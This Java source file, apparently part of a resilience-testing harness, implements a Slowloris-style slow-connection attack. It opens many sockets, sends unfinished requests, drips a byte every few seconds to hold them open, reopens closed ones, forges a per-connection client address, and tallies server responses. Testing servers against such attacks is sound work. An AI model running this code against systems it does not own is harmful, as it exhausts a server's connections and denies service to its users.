package harkara.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Function;

/**
 * As many connections as the scale says, each with a request that does not come to its end: a
 * beginning, then a byte from time to time. What the node closes is opened again, some a second.
 */
final class SlowSockets implements Attack {
  private final String name;
  private final Function<Target, Request> request;
  private final Duration rampUp;

  /**
   * What each connection sends.
   *
   * @param beginning at once
   * @param drip again and again
   * @param reads whether answers are taken
   */
  record Request(String beginning, String drip, boolean reads) {

    /** This in the beginning is another address for each connection. */
    static final String ADDRESS = "{address}";
  }

  SlowSockets(String name, Function<Target, Request> request) {
    this(name, request, Duration.ofSeconds(3));
  }

  private SlowSockets(String name, Function<Target, Request> request, Duration rampUp) {
    this.name = name;
    this.request = request;
    this.rampUp = rampUp;
  }

  /** It has its weight when nothing more fits on the way, on the loopback megabytes for each. */
  static SlowSockets readers(String name, Function<Target, Request> request) {
    return new SlowSockets(name, request, Duration.ofSeconds(10));
  }

  @Override
  public String name() {
    return name;
  }

  @Override
  public Duration rampUp() {
    return rampUp;
  }

  @Override
  public Running begin(Target target) {
    var sockets = new Sockets(target, request.apply(target));
    var thread = new Thread(sockets, name);
    thread.setDaemon(true);
    thread.start();
    return sockets;
  }

  /** One thread for all connections. */
  private static final class Sockets implements Running, Runnable {
    private static final int OPENED_AT_A_TIME = 20;
    private static final long PAUSE_MILLIS = 50;
    private static final long DRIP_NANOS = Duration.ofSeconds(5).toNanos();
    private static final int SHOWN = 12;

    private final InetSocketAddress address;
    private final int count;
    private final Request request;
    private final ByteBuffer drip;
    private final Map<String, Integer> answers = new TreeMap<>();
    private volatile boolean ended;
    private volatile int most;
    private int opened;

    /** A connection's own. */
    private static final class State {
      private long dripAt = System.nanoTime() + DRIP_NANOS;
    }

    Sockets(Target target, Request request) {
      this.address = new InetSocketAddress(target.base().getHost(), target.base().getPort());
      this.count = target.scale();
      this.request = request;
      this.drip = bytes(request.drip());
    }

    private static ByteBuffer bytes(String text) {
      return ByteBuffer.wrap(text.getBytes(StandardCharsets.ISO_8859_1));
    }

    @Override
    public void run() {
      try (var selector = Selector.open()) {
        while (!ended) {
          open(selector);
          selector.select(key -> read(key), PAUSE_MILLIS);
          selector.keys().forEach(this::drip);
        }
        for (var key : new ArrayList<>(selector.keys())) {
          key.channel().close();
        }
      } catch (IOException failure) {
        count("attack ended by " + failure);
      }
    }

    private void open(Selector selector) throws IOException {
      var missing = count - selector.keys().size();
      most = Math.max(most, selector.keys().size());
      for (var left = Math.min(missing, OPENED_AT_A_TIME); left > 0; left--) {
        try {
          open(selector, opened++);
        } catch (IOException refused) {
          count("not opened");
          return;
        }
      }
    }

    private void open(Selector selector, int number) throws IOException {
      var channel = SocketChannel.open();
      if (!request.reads()) {
        channel.setOption(StandardSocketOptions.SO_RCVBUF, 4_096);
      }
      channel.connect(address);
      channel.configureBlocking(false);
      var client = "10.%d.%d.7".formatted(number / 250 % 250, number % 250);
      channel.write(bytes(request.beginning().replace(Request.ADDRESS, client)));
      channel.register(selector, request.reads() ? SelectionKey.OP_READ : 0, new State());
    }

    private void read(SelectionKey key) {
      var buffer = ByteBuffer.allocate(2_048);
      try {
        var read = ((SocketChannel) key.channel()).read(buffer);
        if (read > 0) {
          var text = new String(buffer.array(), 0, read, StandardCharsets.ISO_8859_1);
          count(
              text.startsWith("HTTP/") ? "answered " + text.substring(9, 12) : "more of an answer");
          return;
        }
        count("closed");
      } catch (IOException reset) {
        count("reset");
      }
      close(key);
    }

    private void drip(SelectionKey key) {
      var state = (State) key.attachment();
      if (!key.isValid() || System.nanoTime() < state.dripAt) {
        return;
      }
      state.dripAt = System.nanoTime() + DRIP_NANOS;
      try {
        ((SocketChannel) key.channel()).write(drip.duplicate());
      } catch (IOException gone) {
        close(key);
      }
    }

    private static void close(SelectionKey key) {
      try {
        key.channel().close();
      } catch (IOException gone) {
        // nothing to close
      }
    }

    private synchronized void count(String what) {
      answers.merge(what, 1, Integer::sum);
    }

    @Override
    public synchronized List<String> figures() {
      return List.of(
          "connections "
              + most
              + " at most, "
              + answers.entrySet().stream().limit(SHOWN).map(Object::toString).toList());
    }

    @Override
    public void close() {
      ended = true;
    }
  }
}
